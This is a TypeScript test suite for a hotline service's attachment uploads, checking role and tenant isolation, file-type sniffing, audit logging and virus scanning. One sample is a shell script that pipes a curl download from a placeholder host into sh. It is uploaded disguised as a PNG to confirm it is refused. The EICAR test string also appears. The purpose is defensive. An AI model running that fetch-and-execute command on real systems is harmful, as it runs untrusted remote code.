import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ServiceUnderTest, startServiceUnderTest } from '@hotline/service-testing';
import type { Role } from '@hotline/vocabulary';
import { assignment, brief, dispatchAndWait, dispatched } from '../../test/work-order-fixtures';
import { handlingService } from '../handling.service';

// Samples made here: a PDF, a Word document (a zip with its fixed part names), a script to
// disguise, and the EICAR test string (the standard harmless "virus") for the scan hook.
const PDF = Buffer.from('%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n');
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n');
const EICAR = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*');
const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
function docx(): Buffer {
  // A stored zip: local headers are not read by the sniffer, only the central directory.
  const names = ['[Content_Types].xml', 'word/document.xml'];
  const central = names.map((name) => {
    const header = Buffer.alloc(46);
    header.writeUInt32LE(0x02014b50, 0);
    header.writeUInt16LE(Buffer.byteLength(name), 28);
    return Buffer.concat([header, Buffer.from(name)]);
  });
  const local = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(26)]);
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(names.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, directory, end]);
}

describe('attachments of answers and 督办 replies (real PostgreSQL and NATS, local-disk store)', () => {
  let sut: ServiceUnderTest;
  const dir = mkdtempSync(join(tmpdir(), 'hotline-handling-attachments-'));
  const count = (d: string): number =>
    readdirSync(d, { withFileTypes: true }).reduce((n, e) => n + (e.isDirectory() ? count(join(d, e.name)) : 1), 0);
  const rows = (tenant: string, sql: string, params: unknown[] = []) => sut.service.context.db.run(tenant, (m) => m.query(sql, params));

  const upload = async (s: ServiceUnderTest, bearer: string, path: string, bytes: Buffer, type: string, filename = 'file') => {
    const res = await fetch(`${s.service.httpUrl}${path}/attachments?filename=${encodeURIComponent(filename)}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${bearer}`, 'content-type': type },
      body: new Uint8Array(bytes),
    });
    const text = await res.text();
    return { status: res.status, body: text ? JSON.parse(text) : undefined };
  };
  const download = (bearer: string, path: string, id: string) =>
    fetch(`${sut.service.httpUrl}${path}/attachments/${id}?purpose=handle-request`, { headers: { authorization: `Bearer ${bearer}` } });
  const list = (bearer: string, path: string) => sut.request('GET', `${path}/attachments`, bearer);

  beforeAll(async () => {
    sut = await startServiceUnderTest(handlingService, { env: { ATTACHMENT_DIR: dir } });
  });
  afterAll(async () => {
    await sut?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it("takes files to an open order's answer from its unit only, shows them to the unit and the hotline, and ends with the answer", async () => {
    const [order] = await dispatchAndWait(sut, 'city-h1', dispatched(brief(), [assignment('u-h1')]), 1);
    const path = `/v1/work-orders/${order.id}`;
    const operator = await sut.token('city-h1', ['unit-operator'], 'u-h1');
    const leader = await sut.token('city-h1', ['unit-leader'], 'u-h1');
    const pdf = await upload(sut, operator, path, PDF, 'application/pdf', '整改通知书.pdf');
    expect(pdf.status).toBe(201);
    expect(pdf.body).toMatchObject({ ownerKind: 'work-order', ownerId: order.id, contentType: 'application/pdf', filename: '整改通知书.pdf' });
    const letter = await upload(sut, leader, path, docx(), DOCX_TYPE, '答复函.docx');
    expect(letter.status).toBe(201);

    // Another unit does not see the order; the hotline sees but does not attach; no role outside the readers reads.
    const other = await sut.token('city-h1', ['unit-operator'], 'u-other');
    expect((await upload(sut, other, path, PDF, 'application/pdf')).status).toBe(404);
    expect((await list(other, path)).status).toBe(404);
    expect((await download(other, path, pdf.body.id)).status).toBe(404);
    expect((await upload(sut, await sut.token('city-h1', ['supervisor']), path, PDF, 'application/pdf')).status).toBe(403);
    expect((await list(await sut.token('city-h1', ['agent']), path)).status).toBe(403);
    for (const roles of [['dispatcher'], ['reviewer'], ['supervisor'], ['tenant-admin'], ['unit-operator']] as Role[][]) {
      const bearer = roles[0] === 'unit-operator' ? operator : await sut.token('city-h1', roles);
      expect((await list(bearer, path)).body.items.map((a: { filename: string }) => a.filename)).toEqual(['整改通知书.pdf', '答复函.docx']);
    }
    const reviewer = await sut.token('city-h1', ['reviewer']);
    const served = await download(reviewer, path, letter.body.id);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe(DOCX_TYPE);
    expect(served.headers.get('content-disposition')).toContain("filename*=UTF-8''");
    expect(Buffer.from(await served.arrayBuffer())).toEqual(docx());
    expect(await rows('city-h1', `select roles, purpose, work_order_id, fields from pii_access_log where work_order_id = $1`, [order.id])).toEqual([
      { roles: ['reviewer'], purpose: 'handle-request', work_order_id: order.id, fields: [`attachment:${letter.body.id}`] },
    ]);
    // The id of the order's attachment under another order finds nothing.
    const [second] = await dispatchAndWait(sut, 'city-h1', dispatched(brief(), [assignment('u-h1')]), 1);
    expect((await download(reviewer, `/v1/work-orders/${second.id}`, pdf.body.id)).status).toBe(404);

    // A disguised file is refused and not stored.
    const before = count(dir);
    const disguised = await upload(sut, operator, path, SCRIPT, 'image/png', 'photo.png');
    expect(disguised).toMatchObject({ status: 415, body: { errors: [{ field: 'header.content-type' }] } });
    expect(count(dir)).toBe(before);

    // Answered, the order is what the reviewer reads: nothing more is attached.
    expect((await sut.request('POST', `${path}/sign`, operator)).status).toBe(200);
    const answered = await sut.request('POST', `${path}/answer`, operator, { answer: '已整改完毕', basis: '《物业管理条例》', contactRecord: '电话告知诉求人' });
    expect(answered.status).toBe(200);
    expect((await upload(sut, operator, path, PDF, 'application/pdf')).status).toBe(409);
    expect((await list(operator, path)).body.items).toHaveLength(2);
  });

  it("takes files to a 督办 reply from the supervised unit until it replies, and crosses no tenant", async () => {
    const [order] = await dispatchAndWait(sut, 'city-h2', dispatched(brief(), [assignment('u-h2')]), 1);
    const supervisor = sut.as('city-h2', ['supervisor']);
    const opened = await supervisor('POST', '/v1/supervision-orders', { workOrderId: order.id, source: 'leader-instruction', instruction: '请三日内答复' });
    expect(opened.status).toBe(201);
    const path = `/v1/supervision-orders/${opened.body.id}`;
    const unit = await sut.token('city-h2', ['unit-operator'], 'u-h2');
    const added = await upload(sut, unit, path, PDF, 'application/pdf', '核查报告.pdf');
    expect(added).toMatchObject({ status: 201, body: { ownerKind: 'supervision-order', ownerId: opened.body.id } });
    expect((await upload(sut, await sut.token('city-h2', ['unit-operator'], 'u-other'), path, PDF, 'application/pdf')).status).toBe(404);
    expect((await list(await sut.token('city-h2', ['supervisor']), path)).body.items).toHaveLength(1);
    expect((await download(await sut.token('city-h2', ['dispatcher']), path, added.body.id)).status).toBe(200);
    // The work order's attachments and the 督办 order's are apart.
    expect((await list(unit, `/v1/work-orders/${order.id}`)).body.items).toEqual([]);
    expect(await rows('city-h2', `select work_order_id, request_id from pii_access_log`)).toEqual([{ work_order_id: order.id, request_id: order.requestId }]);

    // Another tenant's staff (a unit of the same code) find nothing.
    const stranger = await sut.token('city-h9', ['unit-operator'], 'u-h2');
    expect((await list(stranger, path)).status).toBe(404);
    expect((await download(stranger, path, added.body.id)).status).toBe(404);
    expect((await upload(sut, stranger, path, PDF, 'application/pdf')).status).toBe(404);
    expect((await download(await sut.token('city-h9', ['supervisor']), path, added.body.id)).status).toBe(404);

    expect((await sut.request('POST', `${path}/reply`, unit, { reply: '已核查并整改' })).status).toBe(200);
    expect((await upload(sut, unit, path, PDF, 'application/pdf')).status).toBe(409);
  });

  it('passes every upload through the configured virus scanner: an infected file is refused (422) and not stored', async () => {
    const scanDir = mkdtempSync(join(tmpdir(), 'hotline-handling-scanned-'));
    // A scanner that answers as clamdscan does (exit 1: found), here finding the EICAR string.
    const scanner = `${process.execPath} -e b='';process.stdin.on('data',d=>b+=d).on('end',()=>process.exit(b.includes('EICAR-STANDARD')?1:0))`;
    const scanned = await startServiceUnderTest(handlingService, { env: { ATTACHMENT_DIR: scanDir, ATTACHMENT_SCAN_COMMAND: scanner } });
    try {
      const [order] = await dispatchAndWait(scanned, 'city-h3', dispatched(brief(), [assignment('u-h3')]), 1);
      const unit = await scanned.token('city-h3', ['unit-operator'], 'u-h3');
      const path = `/v1/work-orders/${order.id}`;
      const infected = await upload(scanned, unit, path, EICAR, 'text/plain', 'eicar.txt');
      expect(infected).toMatchObject({ status: 422, body: { code: 'attachment_infected' } });
      expect(count(scanDir)).toBe(0);
      const clean = await upload(scanned, unit, path, PDF, 'application/pdf', 'clean.pdf');
      expect(clean).toMatchObject({ status: 201, body: { scanResult: 'clean' } });
      expect(count(scanDir)).toBe(1);
    } finally {
      await scanned.close();
      rmSync(scanDir, { recursive: true, force: true });
    }
  });
});
